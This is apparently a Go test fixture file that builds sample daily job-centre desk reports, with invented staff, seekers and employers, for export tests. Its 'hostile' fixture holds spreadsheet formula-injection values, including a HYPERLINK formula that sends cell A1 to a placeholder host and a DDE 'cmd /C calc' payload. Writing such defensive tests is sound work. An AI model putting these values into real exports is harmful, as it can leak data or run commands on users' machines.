package dayfile

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"ieumdesk/assets"
	"ieumdesk/model"
	"ieumdesk/ui/slip"
)

// theDay is the day of the samples: Tuesday, 24 November 2026.
const theDay = model.Date("2026-11-24")

func words(tb testing.TB, language string) *assets.Words {
	tb.Helper()
	w, err := assets.LoadWords(language)
	if err != nil {
		tb.Fatal(err)
	}
	return w
}

var loadFonts = sync.OnceValues(func() (*slip.Fonts, error) { return slip.LoadFonts(assets.FontRegular, assets.FontBold) })

func fonts(tb testing.TB) *slip.Fonts {
	tb.Helper()
	f, err := loadFonts()
	if err != nil {
		tb.Fatal(err)
	}
	return f
}

func at(hour, minute int) time.Time {
	return time.Date(2026, 11, 24, hour, minute, 0, 0, model.Seoul)
}

func id(n byte) model.ID { return model.ID{15: n} }

var desk = model.Desk{Code: "D07", Name: "사동 행정복지센터", Center: "안산시 일자리센터"}

// ordinary is a closed day as a desk has them. Nobody in it exists.
func ordinary() Report {
	log := model.DayLog{
		Date: theDay, Desk: "D07",
		Closing: model.Closing{Closed: true, Revision: 1, ClosedAt: at(18, 2), ClosedBy: "김상담", Hash: strings.Repeat("ab", 32)},
		Figures: model.DayFigures{Visits: 9, Consultations: 7, Registrations: 4, Leads: 2, Referrals: 14, Interviews: 5, Hires: 2},
		Month:   model.DayFigures{Visits: 168, Consultations: 131, Registrations: 71, Leads: 38, Referrals: 247, Interviews: 96, Hires: 31},
		Year:    model.DayFigures{Visits: 2415, Consultations: 1904, Registrations: 1020, Leads: 402, Referrals: 3511, Interviews: 1204, Hires: 489},
		Goal:    model.DayGoals{model.Visits: 220, model.ReferralsMade: 300, model.Hires: 45},
		Staff: []model.StaffFigures{
			{StaffID: id(1), Staff: "김상담", Figures: model.DayFigures{Visits: 6, Consultations: 5, Registrations: 3, Leads: 1, Referrals: 9, Interviews: 3, Hires: 1}},
			{StaffID: id(2), Staff: "이가람", Figures: model.DayFigures{Visits: 3, Consultations: 2, Registrations: 1, Leads: 1, Referrals: 5, Interviews: 2, Hires: 1}},
		},
		Expected: []model.ExpectedHire{
			{SeekerID: id(3), ReferralID: id(4), Person: "박*자", Employer: "안산호텔", Title: "조리보조", StartOn: "2026-11-26"},
			{SeekerID: id(5), ReferralID: id(6), Person: "정*란", Employer: "늘봄요양원", Title: "요양보호사", StartOn: "2026-12-01"},
		},
		Found: []model.FoundEmployer{
			{EmployerID: id(7), Employer: "안산호텔", Dong: "고잔동", Source: "dong", Leads: []model.FoundLead{{LeadID: id(8), Title: "조리보조", Openings: 2}, {LeadID: id(9), Title: "객실관리", Openings: 1}}},
			{EmployerID: id(10), Employer: "대성정밀", Dong: "원곡동", Source: "phone", Leads: []model.FoundLead{{LeadID: id(11), Title: "CNC 조작", Openings: 5}}},
		},
		Quiet:   []model.QuietEntry{{ID: id(12), Revision: 1, Day: theDay, Kind: model.QuietPhone, Text: "야간 근무가 되는 곳을 물어봄", At: at(10, 40), StaffID: id(1), Staff: "김상담", SeekerID: id(3), Person: "박*자"}},
		Remarks: model.Remarks{Revision: 1, Handover: "시청 회의 11/25 10:00\n919취업광장 참가업체 명단 제출", Leave: "이가람 오후 반차"},
		Awaited: 3, Late: []model.LateChange{},
	}
	r := Report{From: theDay, To: theDay, Desk: desk, Day: &log, Frozen: true}
	for i, f := range model.AllFigures {
		for n := range log.Figures.Of(f) {
			r.Rows = append(r.Rows, row(f, n, i))
		}
	}
	return r
}

// row is the nth record behind a figure of the ordinary day.
func row(f model.Figure, n, i int) model.DayRow {
	r := model.DayRow{
		Figure: f, ID: id(byte(20*i + n)), Source: model.FromVisit, Kind: "consult", Day: theDay, At: at(9+n%9, 7*n%60), Desk: "D07",
		StaffID: id(1), Staff: "김상담", SeekerID: id(byte(n)), Person: "박*자",
	}
	switch f {
	case model.Registrations:
		r.Kind = "register"
	case model.LeadsFound:
		r.Source, r.Kind, r.At, r.Person = model.FromLead, "dong", time.Time{}, ""
		r.LeadID, r.Employer, r.Title = id(8), "안산호텔", "조리보조"
	case model.ReferralsMade, model.Interviews, model.Hires:
		r.Source, r.Kind, r.Slip = model.FromReferral, "issued", fmt.Sprintf("2026-D07-%06d", 124+n)
		r.ReferralID, r.LeadID, r.Employer, r.Title = id(byte(100+n)), id(8), "안산호텔", "조리보조"
	}
	return r
}

// bare is a day on which nothing happened and that is still open.
func bare() Report {
	return Report{From: theDay, To: theDay, Desk: desk, Day: &model.DayLog{Date: theDay, Desk: "D07"}}
}

// hostile is a day whose texts do what no text should.
func hostile() Report {
	r := ordinary()
	long := strings.Repeat("긴 이름의 회사 주식회사 ", 12)
	r.Day.Expected = append(r.Day.Expected,
		model.ExpectedHire{Person: "=*+", Employer: `=HYPERLINK("http://x.invalid/?"&A1,"클릭")`, Title: "+82 10", StartOn: "2026-11-30"},
		model.ExpectedHire{Person: "NGUYỄN T* P* T*", Employer: "@SUM(1+1)", Title: "-2+3", StartOn: "2026-11-30"},
		model.ExpectedHire{Person: "ABDURAKHMONOVA* G*", Employer: long, Title: long, StartOn: "2026-11-30"})
	r.Day.Quiet = append(r.Day.Quiet, model.QuietEntry{Day: theDay, Kind: model.QuietOther, Text: "\t=1+1 {{desk}} <hp:t>&amp;]]>", At: at(11, 0), Staff: "김상담"})
	r.Day.Remarks.Special = strings.Repeat("=cmd|' /C calc'!A0 특이한 일이 있었다. ", 60)
	r.Day.Remarks.Suggestion = "-\n＝SUM(A1)"
	r.Day.Late = []model.LateChange{{Row: row(model.Hires, 1, 6)}, {Row: row(model.ReferralsMade, 1, 4), Gone: true}}
	r.Rows = append(r.Rows, model.DayRow{Figure: model.Consultations, Source: model.FromQuiet, Kind: "phone", Day: theDay, At: at(9, 0), Text: `=HYPERLINK("x")`, Staff: "김상담", Person: "ʻO*"})
	return r
}

// november is a span of a month.
func november() Report {
	r := Report{From: "2026-11-01", To: "2026-11-30", Desk: desk, Unclosed: []model.Date{"2026-11-27"}}
	r.Days = model.StatTable{StatQuery: model.StatQuery{By: model.ByDay}, Figures: model.AllFigures}
	total := make([]model.Cell, len(model.AllFigures))
	for d := r.From; d <= r.To; d = d.AddDays(1) {
		cells := make([]model.Cell, len(model.AllFigures))
		for i := range cells {
			cells[i] = model.Cell((d.Time().Day()*7 + i*3) % 12)
			total[i] += cells[i]
		}
		r.Days.Rows = append(r.Days.Rows, model.StatRow{Key: string(d), Cells: cells})
	}
	r.Days.Total = total
	r.Staff = model.StatTable{Figures: model.AllFigures, Total: total, Rows: []model.StatRow{{Key: id(1).String(), Name: "김상담", Cells: total}}}
	for i, f := range model.AllFigures {
		for n := range 12 {
			x := row(f, n, i)
			x.Day = r.From.AddDays(n * 29 / 11)
			r.Rows = append(r.Rows, x)
		}
	}
	return r
}
